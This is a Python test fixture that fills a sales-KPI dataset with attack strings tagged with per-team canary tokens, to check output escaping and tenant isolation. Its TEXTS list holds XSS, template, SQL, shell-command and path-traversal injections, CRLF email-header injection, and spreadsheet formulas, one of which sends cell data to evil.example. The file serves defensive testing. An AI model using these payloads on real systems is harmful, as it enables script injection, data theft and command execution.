"""A company whose every text is an attack, and in which every text says whose row it stands in.

The sample, fewer teams and accounts of it. Each key and each free text holds a canary: a token of the team that owns
the row, the table, the value and the column, so that any byte of another team's rows is known for what it is.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping
from pathlib import Path
from typing import Any

import polars as pl

from kpitools.model.led import CHILDREN_FIRST
from kpitools.model.tables import TABLES

Frames = Mapping[str, pl.DataFrame]
Cells = dict[str, list[dict[str, Any]]]
Row = tuple[str, int]

#: What stands in every text column in turn.
TEXTS = (
    "<script>window.pwned=1;alert(1)</script>",
    "</script><script>window.pwned=1</script>",
    "<!--<script>",
    "--></style></textarea></svg></title>]]>",
    "<img src=x onerror=\"window.pwned=1;alert('img')\">",
    "\" onmouseover=\"window.pwned=1\" autofocus onfocus='window.pwned=1' x=\"",
    "<a href=javascript:window.pwned=1>click</a> javascript:alert(1)",
    "<svg/onload=alert(1)><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<style>body{display:none}</style><base href='http://evil.example/'><link rel=stylesheet href=//evil.example/>",
    "{{7*7}} {% raw %} {%- for x in ().__class__.__base__.__subclasses__() %} ${7*7} #{7*7} <%= 7*7 %>",
    "\");alert(1)// datum.x'] + alert(1) + ['",
    '{"signal": "alert(1)", "expr": "window.pwned=1"}',
    "{'expr': 'window'} datum['a'].b[0] \\u0027\\x27\\\\",
    "[x](javascript:window.pwned=1) ![x](http://evil.example/a.png) <http://evil.example> [y]: http://evil.example",
    "| a | `b` | # c **d** _e_ ~~f~~ $\\alpha$ ```",
    "# heading\n\n- item\n\n<details>\r\n\tindented",
    "\u202egnihtyreve sesrever\u202c \u2066isolated",
    "zero\u200bwidth\ufeffjoined\u200d\u2060 \u00ad",
    "nul\x00bell\x07escape\x1b[31m\x1b]8;;http://evil.example\x07\x85\u2028\u2029",
    "Z" + "\u0310\u0352\u0489" * 60 + "algo",
    "W" * 10_000,
    "ﷺ" * 40 + " 🏴‍☠️👩‍👩‍👧‍👦",
    "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "../../etc/passwd",
    "C:\\Windows\\con",
    "..\\..\\aux.txt. . ",
    "'; DROP TABLE deals; --",
    "$(touch pwned) `touch pwned`; touch pwned | touch pwned & touch pwned",
    "\"\"\"; import os; os.system('touch pwned') #",
    "__import__('os').system('touch pwned')\n%%bash\ntouch pwned\n!touch pwned",
    "a&team=b;y=z&period=2020Q1%26%00",
    "(unassigned)",
    "All",
    "null",
    "NaN",
)  # fmt: skip

#: Names of teams, most of them several attacks in one, since each team costs the time of its reports.
TEAMS = (
    TEXTS[1] + TEXTS[4] + TEXTS[5] + TEXTS[9] + TEXTS[2],
    "../../etc/passwd\\con." + TEXTS[32] + TEXTS[31] + TEXTS[30] + "\r\nBcc: all@evil.example\r\n\r\n" + TEXTS[33],
    "=cmd&team=b;y=z%26" + TEXTS[10] + TEXTS[11] + TEXTS[13] + TEXTS[14] + TEXTS[16] + TEXTS[17],
    "\u202e" + TEXTS[20] + TEXTS[18] + TEXTS[19] + TEXTS[15],
)
KEPT = ("Nordics", "DACH", "US East", "Asia-Pacific")
#: Stands where the number of a team does, for what belongs to the company, and for what belongs to nobody.
COMPANY, NOBODY = "8", "9"
TOKEN = re.compile(r"zq(\d)x(\d\d)x(\d{5})x(\d\d)qz")
#: Lists that belong to the company.
OF_COMPANY = ("courses", "initiatives", "market", "playbook", "products", "stages")
#: Whose a row is: the team it names, or that of the row it belongs to; the first of these that there is.
BELONGS = {
    "reps": "team", "costs": "team", "quotas": "owner_id", "forecasts": "owner_id",
    **dict.fromkeys(("accounts", "leads", "deals", "deal_versions"), "owner_rep_id"),
    **dict.fromkeys(("activities", "assessments", "calls", "coaching", "deal_members", "initiative_users", "listings",
                     "orders", "quotes", "rep_hours", "shares"), "rep_id"),
    "cc_calls": "agent_rep_id", "surveys": "rep_id account_id", "claims": "policy_id", "lead_scores": "lead_id",
    **dict.fromkeys(("call_marks", "call_turns"), "call_id"),
    **dict.fromkeys(("carts", "order_lines", "sessions"), "order_id"),
    **dict.fromkeys(("deal_changes", "deal_scores"), "deal_id"),
    **dict.fromkeys(("account_scores", "enrolments", "holdings", "portfolio_returns", "subscriptions", "tickets"),
                    "account_id"),
    **dict.fromkeys(("intent_signals", "policies"), "account_id lead_id"),
    **dict.fromkeys(("projects", "usage"), "deal_id account_id"), "stage_history": "deal_id lead_id",
}  # fmt: skip
PARENTS_FIRST = CHILDREN_FIRST[::-1]
#: Words that the code itself knows: hostile in some rows only, so that there are figures.
KNOWN = {"role", "measure", "focus_kpi", "deal_stage", "call_purpose"}
ONE_IN = 5
#: What is seen of a deal that another team owns.
OF_OTHERS_DEALS = {
    "deal_id", "account_id", "lead_id", "owner_rep_id", "sdr_rep_id", "product_id", "stage", "kind", "product_family",
    "channel", "segment", "created_at",
}  # fmt: skip
#: What belongs to the story of a deal or lead, and is seen by whoever owns that.
STORY = {
    "activities": ("deal_id", "lead_id"), "calls": ("deal_id", "lead_id"), "quotes": ("deal_id",),
    "deal_members": ("deal_id",),
}  # fmt: skip


# ---- making it


def hostile(sample: Frames) -> dict[str, pl.DataFrame]:
    """The sample with four teams and a third of the accounts, all its texts replaced."""
    frames = crossed(smaller(sample))
    owners = owned(frames)
    renamed = {name: new_keys(name, frame, owners[name]) for name, frame in frames.items()}
    renamed["team"] = dict(zip(KEPT, map(team_name, range(len(TEAMS))), strict=True))
    return {name: replaced(name, frame, owners[name], renamed) for name, frame in frames.items()}


def team_name(number: int) -> str:
    return marked(TEAMS[number], token(str(number), 99, 0, 0))


def token(owner: str, table: int, value: int, column: int) -> str:
    return f"zq{owner}x{table:02}x{value:05}x{column:02}qz"


def marked(text: str, canary: str) -> str:
    """The text with the canary in it, where it is not cut off, and the text begins as it began."""
    return f"{text[:200]} {canary} {text[200:]}"


def smaller(sample: Frames) -> dict[str, pl.DataFrame]:
    """Four teams, every third account and lead, and only what hangs on these: keys lead somewhere or are null."""
    found: dict[str, pl.DataFrame] = {}
    for name in [one for one in PARENTS_FIRST if one in sample]:
        frame = sample[name].gather_every(3 if name in ("accounts", "leads", "sessions") else 1)
        if "team" in frame.columns:
            frame = frame.filter(pl.col("team").is_in([*KEPT, None], nulls_equal=True))
        for column, parent in TABLES[name].foreign_keys.items():
            if column in frame.columns and parent in found:
                known = [None, *found[parent][key_of(parent)], *TABLES[name].words.get(column, ())]
                frame = frame.filter(pl.col(column).is_in(known, nulls_equal=True))
        if "owner_kind" in frame.columns:
            frame = frame.filter(pl.col("owner_id").is_in([*found["reps"]["rep_id"], *KEPT, "company"]))
        found[name] = frame
    return {name: led_somewhere(name, frame, found) for name, frame in found.items()}


def led_somewhere(name: str, frame: pl.DataFrame, found: Frames) -> pl.DataFrame:
    """The rows, their keys taken out that lead to rows of their own or a later table that are not there."""
    keys = {column: parent for column, parent in TABLES[name].foreign_keys.items() if column in frame.columns}
    late = {column: found[parent][key_of(parent)].implode() for column, parent in keys.items()
            if PARENTS_FIRST.index(parent) >= PARENTS_FIRST.index(name)}  # fmt: skip
    return frame.with_columns(
        pl.when(pl.col(column).is_in(ids)).then(column).alias(column) for column, ids in late.items()
    )


def crossed(frames: dict[str, pl.DataFrame]) -> dict[str, pl.DataFrame]:
    """Every seventh account, lead and call handed to a rep of whichever team: teams meet on deals and accounts."""
    reps = frames["reps"].filter(pl.col("team").is_not_null())["rep_id"]
    for name, column in (("accounts", "owner_rep_id"), ("leads", "owner_rep_id"), ("activities", "rep_id"),
                         ("quotes", "rep_id"), ("calls", "rep_id")):  # fmt: skip
        frame = frames[name]
        row = pl.int_range(pl.len())
        other = reps.gather(pl.Series(range(frame.height)) % reps.len())
        frames[name] = frame.with_columns(pl.when(row % 7 == 0).then(other).otherwise(column).alias(column))
    return frames


def owned(frames: Frames) -> dict[str, list[str]]:
    """For every row the number of its team."""
    cells = {name: frame.to_dicts() for name, frame in frames.items()}
    teams = {name: str(number) for number, name in enumerate(KEPT)}
    return {name: [teams.get(one, one) for one in found] for name, found in owners(cells).items()}


def owners(cells: Cells) -> dict[str, list[str]]:
    """For every row the team it belongs to, or `COMPANY`, or `NOBODY`."""
    by_key = {name: {row[key_of(name)]: row for row in rows} for name, rows in cells.items()}

    def owner(name: str, row: Mapping[str, Any]) -> str:
        if name in OF_COMPANY:
            return COMPANY
        for column in BELONGS[name].split():
            parent = TABLES[name].foreign_keys.get(column)
            if "owner_kind" in row:
                parent = "reps" if row["owner_kind"] == "rep" else None
                if row["owner_kind"] == "company":
                    return NOBODY
            value = row.get(column)
            if value is not None and parent is None:
                return str(value)
            if value is not None and parent and (found := owner(parent, by_key[parent][value])) != NOBODY:
                return found
        return NOBODY

    return {name: [owner(name, row) for row in rows] for name, rows in cells.items()}


def key_of(name: str) -> str:
    return TABLES[name].primary_key()[0]


def new_keys(name: str, frame: pl.DataFrame, owner: list[str]) -> dict[str, str]:
    """Old key -> new one with the canary of its row; of a table whose key leads elsewhere there is none."""
    key = key_of(name)
    if key in TABLES[name].foreign_keys:
        return {}
    number = list(TABLES).index(name)
    old = frame[key].to_list()
    if name == "stages":
        return {one: f"{TEXTS[place]} {one}" for place, one in enumerate(old)}
    return {one: f"{one}'<b>&{token(owner[row], number, row, 0)}" for row, one in enumerate(old)}


def replaced(
    name: str, frame: pl.DataFrame, owner: list[str], renamed: Mapping[str, Mapping[str, str]]
) -> pl.DataFrame:
    columns = [column for column, kind in frame.schema.items() if kind == pl.String]
    return frame.with_columns(text_column(name, frame, column, owner, renamed) for column in columns)


def text_column(
    name: str, frame: pl.DataFrame, column: str, owner: list[str], renamed: Mapping[str, Mapping[str, str]]
) -> pl.Series:
    values = frame[column].to_list()
    table = TABLES[name]
    if (table.columns()[column].metadata or {}).get("one_of"):
        return frame[column]
    if column in table.foreign_keys or column == key_of(name):
        keys = renamed[table.foreign_keys.get(column, name)]
        return pl.Series(column, [keys.get(one, one) for one in values], pl.String)
    if column in ("team", "owner_id", "old_value", "new_value"):
        keys = {**renamed["reps"], **renamed["stages"], **renamed["team"]}
        return pl.Series(column, [keys.get(one, one) for one in values], pl.String)
    rank = frame[column].rank("dense").to_list()
    place = (list(TABLES).index(name), list(table.columns()).index(column))
    texts = [None if at is None else hostile_text(int(at), row, place) for at, row in zip(rank, owner, strict=True)]
    plain = column in KNOWN
    both = enumerate(zip(values, texts, strict=True))
    kept = [old if plain and number % ONE_IN else new for number, (old, new) in both]
    return pl.Series(column, kept, pl.String)


def hostile_text(value: int, owner: str, place: tuple[int, int]) -> str:
    text = TEXTS[(value + 7 * place[0] + 3 * place[1]) % len(TEXTS)]
    return marked(text, token(owner, place[0], value, place[1]))


def write(frames: Frames, folder: Path) -> Path:
    """As files that a user would bring; Parquet, as CSV with zero bytes in it is refused at the door."""
    folder.mkdir()
    for name, frame in frames.items():
        frame.write_parquet(folder / f"{name}.parquet")
    return folder


# ---- who may see what


def visible(cells: Cells, team: str) -> Iterator[dict[str, Any]]:
    """The cells that a team may see: its rows, the stories of its deals and leads, and what all these lead to.

    Of a deal that is another team's, some columns only; and what those lead to. Lists of the company are everybody's.
    """
    owner = owners(cells)
    own = {(name, at) for name, found in owner.items() for at, one in enumerate(found) if one in (team, COMPANY)}
    mine = {name: {cells[name][at][key_of(name)] for table, at in own if table == name} for name in ("deals", "leads")}
    todo, seen = [*own, *_stories(cells, mine)], set[Row]()
    places = {name: {row[key_of(name)]: at for at, row in enumerate(rows)} for name, rows in cells.items()}
    while todo:
        name, at = todo.pop()
        if (name, at) in seen:
            continue
        seen.add((name, at))
        row = cells[name][at]
        if name == "deals" and (name, at) not in own:
            row = {column: value for column, value in row.items() if column in OF_OTHERS_DEALS}
        yield row
        for column, parent in TABLES[name].foreign_keys.items():
            if parent in places and (found := places[parent].get(row.get(column))) is not None:
                todo.append((parent, found))


def _stories(cells: Cells, mine: Mapping[str, set[str]]) -> Iterator[Row]:
    for name, columns in STORY.items():
        for at, row in enumerate(cells[name]):
            if any(row[column] in mine[f"{column.removesuffix('_id')}s"] for column in columns):
                yield name, at


def tokens(texts: Iterable[object]) -> set[str]:
    """The canaries in texts or values of any kind, whatever case they are in and however lines were broken."""
    return {found[0] for text in texts for found in TOKEN.finditer(str(text).casefold())}
